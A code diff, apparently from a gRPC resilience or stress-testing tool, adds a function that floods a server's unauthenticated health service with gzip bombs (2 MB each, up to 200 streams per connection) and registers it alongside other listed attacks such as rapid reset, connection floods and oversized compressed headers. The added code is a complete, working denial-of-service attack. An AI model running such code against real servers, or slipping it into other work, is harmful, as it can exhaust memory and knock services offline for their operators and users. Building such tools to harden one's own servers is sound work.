@@ -281,6 +281,27 @@ def gzip_bombs(address: str, going: Going) -> int:
     return sent
 
 
+def gzip_to_health(address: str, going: Going) -> int:
+    """Sends messages that decompress to 2 MB to the health service, which needs no credentials."""
+    bomb = message(gzip.compress(bytes(2_000_000)), compressed=True)
+    said = headers(
+        "Watch",
+        service="/grpc.health.v1.Health/",
+        encoding="gzip",
+        content_type="application/grpc-web+proto",
+    )
+    sent = 0
+    while going():
+        with suppress(OSError), connection(address, seconds=0.2) as link:
+            for stream in range(1, 401, 2):
+                link.sendall(frame(HEADERS, END_HEADERS, stream, said))
+                link.sendall(frame(DATA, END_STREAM, stream, bomb))
+                sent += 1
+            while link.recv(1 << 16):
+                pass
+    return sent
+
+
 def large_headers(address: str, going: Going) -> int:
     """Sends 10 KB of headers that decompress to 340 KB, and never acknowledges the server's
     settings: for such a client gRPC does not apply the server's limit but one of 16 MiB."""
@@ -381,6 +402,7 @@ ATTACKS: Final[dict[str, Callable[[str, Going], int]]] = {
     "streams opened and reset on ten connections": partial(rapid_reset, connections=10),
     "a flood of new connections": new_connections,
     "gzip bombs of 64 MiB": gzip_bombs,
+    "gzip bombs to the health service": gzip_to_health,
     "10,000 headers in 10 KB": large_headers,
     "wrong lengths": wrong_lengths,
     "random frames": random_frames,
